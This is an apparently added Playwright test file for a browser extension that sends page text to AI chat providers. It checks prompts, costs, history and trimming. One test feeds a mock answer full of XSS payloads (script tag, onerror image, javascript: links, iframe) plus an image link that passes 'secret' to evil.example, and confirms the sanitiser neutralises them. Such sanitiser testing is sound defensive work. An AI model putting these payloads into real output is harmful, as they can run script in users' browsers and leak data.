@@ -1,0 +1,143 @@
+import type { Page } from '@playwright/test';
+import { addProvider, call, expect, screenshotPath, test, type Extension } from './fixtures';
+
+const NEWS = `<!doctype html><html lang="en"><head><title>Harbour bridge reopens after repairs</title></head><body>
+<header>Daily Gazette · Subscribe</header>
+<article><h1>Harbour bridge reopens after repairs</h1>
+<p>The harbour bridge reopened on Monday after eight months of repairs to its steel deck, the city said.</p>
+<p>Engineers replaced 1,200 rivets and repainted the main span in its original teal colour.</p>
+<p>Traffic is expected to return to about 40,000 vehicles a day by the end of the month.</p></article>
+<footer>© Daily Gazette</footer></body></html>`;
+
+async function setUp(extension: Extension, mockUrl: string) {
+  const options = await extension.open('options');
+  await addProvider(options, { id: 'anthropic', name: 'Anthropic', kind: 'anthropic', preset: 'anthropic', baseUrl: `${mockUrl}/anthropic` }, 'sk-ant-panel-1');
+  await addProvider(options, { id: 'ollama', name: 'Ollama', kind: 'ollama', preset: 'ollama', baseUrl: `${mockUrl}/ollama` });
+  await call(options, 'budgets.save', { global: {}, providers: {}, warnAt: 0.8 });
+  await options.close();
+}
+
+async function pickModel(panel: Page, search: string, name: string) {
+  await panel.getByTestId('model-picker').click();
+  await panel.getByLabel('Search models').fill(search);
+  await panel.getByRole('option', { name: new RegExp(name) }).first().click();
+}
+
+async function ask(panel: Page, text: string) {
+  await panel.getByLabel('Message').fill(text);
+  await panel.getByLabel('Message').press('Enter');
+}
+
+test('a streamed chat about a news page: the page text reaches the prompt, the answer shows its cost', async ({ extension, mock, pageServer }) => {
+  await setUp(extension, mock.url);
+  const url = pageServer.serve(NEWS);
+  const panel = await extension.open('sidepanel');
+  const article = await extension.context.newPage();
+  await article.goto(url);
+  await article.bringToFront();
+
+  await pickModel(panel, 'sonnet 4.5', 'Claude Sonnet 4.5');
+  await panel.getByTestId('use-page').click();
+  await expect(panel.getByTestId('page-chip')).toContainText('Harbour bridge reopens after repairs');
+  await panel.getByLabel('Message').fill('What happened to the bridge?');
+  await expect(panel.getByTestId('cost-estimate')).toContainText('prompt tokens');
+  mock.script('anthropic', {
+    text: 'The **harbour bridge** reopened on Monday after eight months of repairs:\n\n- 1,200 rivets replaced\n- main span repainted teal\n\n```js\nconst vehiclesPerDay = 40_000;\n```',
+    chunkDelayMs: 20,
+  });
+  await panel.getByLabel('Message').press('Enter');
+
+  const answer = panel.getByTestId('message-assistant').last();
+  await expect(answer.locator('strong')).toHaveText('harbour bridge');
+  await expect(answer.locator('li')).toHaveCount(2);
+  await expect(answer.locator('.sy-code')).toContainText('vehiclesPerDay');
+  await expect(answer.getByTestId('answer-meta')).toContainText('via anthropic');
+  await expect(answer.getByTestId('answer-meta')).toContainText('$');
+
+  const sent = mock.requests.at(-1)!.body as { system?: string; messages: { content: unknown }[] };
+  expect(sent.system).toContain('Engineers replaced 1,200 rivets');
+  expect(sent.system).toContain(url);
+  expect(sent.system).not.toContain('Subscribe');
+  expect(JSON.stringify(sent.messages)).toContain('What happened to the bridge?');
+  await panel.screenshot({ path: screenshotPath('sidepanel-news-answer'), fullPage: true });
+  await article.close();
+});
+
+test('regenerate asks again, and the conversation is there after reopening the panel', async ({ extension, mock }) => {
+  await setUp(extension, mock.url);
+  let panel = await extension.open('sidepanel');
+  await pickModel(panel, 'llama 3.2', 'Llama 3.2 3B');
+  mock.script('ollama', { text: 'First take on rail gauges.' }, { text: 'Second take on rail gauges.' });
+  await ask(panel, 'Why do rail gauges differ between countries?');
+  await expect(panel.getByTestId('message-assistant').last()).toContainText('First take');
+  await panel.getByTestId('regenerate').click();
+  await expect(panel.getByTestId('message-assistant').last()).toContainText('Second take');
+  await expect(panel.getByTestId('message-assistant')).toHaveCount(1);
+  const lastTwo = mock.requests.slice(-2).map((r) => JSON.stringify(r.body.messages));
+  expect(lastTwo[0]).toBe(lastTwo[1]);
+  await panel.close();
+
+  panel = await extension.open('sidepanel');
+  await panel.getByRole('button', { name: 'History' }).click();
+  await panel.getByLabel('Search conversations').fill('gauges');
+  const item = panel.getByTestId('history-item').first();
+  await expect(item).toContainText('Why do rail gauges differ between countries?');
+  await panel.screenshot({ path: screenshotPath('sidepanel-history') });
+  await item.locator('.sy-history-open').click();
+  await expect(panel.getByTestId('message-user')).toContainText('Why do rail gauges differ');
+  await expect(panel.getByTestId('message-assistant')).toContainText('Second take on rail gauges.');
+  await expect(panel.getByTestId('message-assistant').getByTestId('answer-meta')).toContainText('via ollama');
+});
+
+test('a hostile markdown answer renders inert', async ({ extension, mock }) => {
+  await setUp(extension, mock.url);
+  const panel = await extension.open('sidepanel');
+  await pickModel(panel, 'llama 3.2', 'Llama 3.2 3B');
+  mock.script('ollama', {
+    text: [
+      'Here you go <script>window.__pwned = "script"</script>',
+      '<img src="x" onerror="window.__pwned = \'img\'">',
+      '[click me](javascript:window.__pwned=%22link%22)',
+      '<a href="javascript:window.__pwned=1">raw link</a>',
+      '![tracker](https://evil.example/collect?data=secret)',
+      '<iframe src="https://evil.example"></iframe>',
+      '[fine link](https://example.com/docs)',
+    ].join('\n\n'),
+  });
+  await ask(panel, 'Show me something dangerous');
+  const answer = panel.getByTestId('message-assistant').last();
+  await expect(answer).toContainText('fine link');
+  const markdown = answer.locator('.sy-markdown');
+  await expect(markdown.locator('script, img, iframe, [onerror]')).toHaveCount(0);
+  const hrefs = await markdown.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
+  expect(hrefs.some((h) => /^javascript:/i.test(h))).toBe(false);
+  expect(hrefs).toContain('https://example.com/docs');
+  expect(hrefs).toContain('https://evil.example/collect?data=secret');
+  await markdown.getByText('click me').click();
+  expect(await panel.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
+  await panel.screenshot({ path: screenshotPath('sidepanel-hostile-markdown') });
+});
+
+test('a page too big for the model is trimmed with a visible note', async ({ extension, mock, pageServer }) => {
+  await setUp(extension, mock.url);
+  // About 150,000 tokens: more than Switchyard sends of one page (100,000).
+  const paragraphs = Array.from({ length: 10_000 }, (_, i) => `<p>Paragraph ${i} of a very long report about freight logistics and switching yards.</p>`).join('');
+  const url = pageServer.serve(`<!doctype html><title>Long report</title><article><h1>Long report</h1>${paragraphs}</article>`);
+  const panel = await extension.open('sidepanel');
+  const page = await extension.context.newPage();
+  await page.goto(url);
+  await page.bringToFront();
+  await pickModel(panel, 'llama 3.2', 'Llama 3.2 3B');
+  await panel.getByTestId('use-page').click();
+  await expect(panel.getByTestId('page-chip')).toContainText('Long report');
+  await ask(panel, 'Summarize');
+  await expect(panel.getByTestId('message-assistant').last()).toContainText('Mock ollama answer');
+  await panel.screenshot({ path: screenshotPath('sidepanel-page-trimmed') });
+  await expect(panel.getByTestId('page-trimmed')).toContainText(/Trimmed to fit the model: 9\d,\d{3} of 1\d\d,\d{3} tokens sent/);
+  const system = (mock.requests.at(-1)!.body.messages as { role: string; content: string }[])[0]!;
+  expect(system.role).toBe('system');
+  expect(system.content).toContain('Paragraph 0 of a very long report');
+  expect(system.content).not.toContain('Paragraph 9999 ');
+  await panel.screenshot({ path: screenshotPath('sidepanel-page-trimmed') });
+  await page.close();
+});
